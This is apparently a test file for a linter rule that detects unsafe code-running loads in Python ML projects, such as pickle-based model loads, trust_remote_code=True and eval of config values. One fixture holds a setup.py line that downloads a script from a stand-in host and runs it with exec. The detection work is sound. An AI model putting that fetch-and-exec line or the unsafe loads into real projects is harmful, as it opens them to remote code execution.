import rule from '../../../src/rules/pipeline/remote-code-load.js';
import { testRule } from '../../helpers/rule-tester.js';

const notebook = JSON.stringify({
  cells: [{ cell_type: 'code', source: ['import torch\n', 'torch.load("m.pt")\n'], metadata: {}, outputs: [], execution_count: null }],
  metadata: {}, nbformat: 4, nbformat_minor: 5,
});

testRule(rule, {
  valid: [
    { name: 'safe loads', files: { 'train.py': 'import torch, yaml\nsd = torch.load("m.pt", weights_only=True)\ncfg = yaml.safe_load(open("c.yml"))\n' } },
    { name: 'loaders named only in docstrings, strings and comments', files: { 'util.py': '"""Never call torch.load(x) or pickle.loads(b)."""\n# model = AutoModel.from_pretrained(n, trust_remote_code=True)\nHELP = "eval(cfg.x) is bad"\n' } },
    { name: 'a notebook is left to the notebook rules', files: { 'explore.ipynb': notebook } },
    { name: 'a Markdown file with a code block', files: { 'README.md': '```python\ntorch.load("m.pt")\n```\n' } },
    { name: 'a kind the policy turned off', files: { 'a.py': 'import torch\ntorch.load("m.pt")\n' }, options: { checks: ['pickle-load'] } },
  ],
  invalid: [
    {
      name: 'a file too large to analyse is reported at the rule severity (fail closed), not passed',
      files: { 'train.py': `from transformers import AutoModel\nm = AutoModel.from_pretrained("x/y", trust_remote_code=True)\n${'# padding\n'.repeat(500_000)}` },
      errors: [{ severity: 'high', message: /^This Python file could not be checked for code-running loads \(/ }],
    },
    {
      name: 'torch.load of a downloaded checkpoint is high, of a repository path one level lower',
      files: {
        'src/load.py': [
          'import torch',
          'from huggingface_hub import hf_hub_download',
          '',
          'def remote():',
          '    ckpt = hf_hub_download(repo_id="acme/clf", filename="model.bin")',
          '    return torch.load(ckpt, map_location="cpu")',
          '',
          'def local():',
          '    return torch.load("checkpoints/best.pt")',
          '',
        ].join('\n'),
      },
      errors: [
        { path: 'src/load.py', line: 6, column: 18, severity: 'high', message: 'torch.load(ckpt) runs without weights_only=True, so it unpickles a downloaded file (hf_hub_download (line 5), assigned to ckpt on line 5) and can run code from it: pass weights_only=True or store the weights as safetensors.' },
        { path: 'src/load.py', line: 9, column: 18, severity: 'medium', message: "torch.load(\"checkpoints/best.pt\") runs without weights_only=True, so it unpickles the file 'checkpoints/best.pt' and can run code from it: pass weights_only=True or store the weights as safetensors." },
      ],
    },
    {
      name: 'trust_remote_code=True on a Hub model',
      files: { 'serve.py': 'from transformers import AutoModelForCausalLM\nm = AutoModelForCausalLM.from_pretrained(\n    "acme/chat-7b",\n    trust_remote_code=True,\n)\n' },
      errors: [{ line: 2, column: 26, severity: 'high', message: 'AutoModelForCausalLM.from_pretrained("acme/chat-7b") passes trust_remote_code=True, which downloads and runs the Python files of model repository acme/chat-7b at whatever revision is current: pin revision= to a reviewed commit hash, or use an architecture built into the library.' }],
    },
    {
      name: 'pickle, joblib, numpy and yaml loads in one file',
      files: { 'etl.py': 'import pickle, joblib, yaml\nimport numpy as np\nobj = pickle.load(open("a.pkl", "rb"))\nclf = joblib.load(path)\narr = np.load("x.npy", allow_pickle=True)\ncfg = yaml.load(open("c.yml"))\n' },
      errors: [
        { line: 3, severity: 'medium', message: /^pickle\.load\(open\("a\.pkl", "rb"\)\) unpickles the file 'a\.pkl'/ },
        { line: 4, severity: 'medium', message: /^joblib\.load\(path\) unpickles whatever file it is given/ },
        { line: 5, severity: 'medium', message: /^np\.load\("x\.npy", allow_pickle=True\) unpickles object arrays/ },
        { line: 6, severity: 'medium', message: /^yaml\.load\(open\("c\.yml"\)\) without a safe Loader/ },
      ],
    },
    {
      name: 'eval of a config value',
      files: { 'build.py': 'def make(cfg):\n    return eval(cfg["model"]["cls"])(**cfg["model"]["args"])\n' },
      errors: [{ line: 2, column: 12, severity: 'medium', message: /^eval\(cfg\["model"\]\["cls"\]\) runs a config or command-line value/ }],
    },
    {
      name: 'setup.py is checked too (a dependency file in Python)',
      files: { 'setup.py': 'import requests\nexec(requests.get("https://example.com/install.py").text)\n' },
      errors: [{ path: 'setup.py', line: 2, column: 1, severity: 'high', message: /^exec\(requests\.get\("https:\/\/example\.com\/install\.py"\)\.\.\.\.\) runs code fetched from the network \(requests \(line 2\)\)/ }],
    },
    {
      name: 'the severity follows the policy',
      files: { 'a.py': 'import torch\ntorch.hub.load("ultralytics/yolov5", "yolov5s")\ntorch.load("b.pt")\n' },
      severity: 'critical',
      errors: [
        { line: 2, severity: 'critical', message: /^torch\.hub\.load\("ultralytics\/yolov5"\) imports and runs hubconf\.py/ },
        { line: 3, severity: 'high', message: /^torch\.load\("b\.pt"\) runs without weights_only=True/ },
      ],
    },
  ],
});
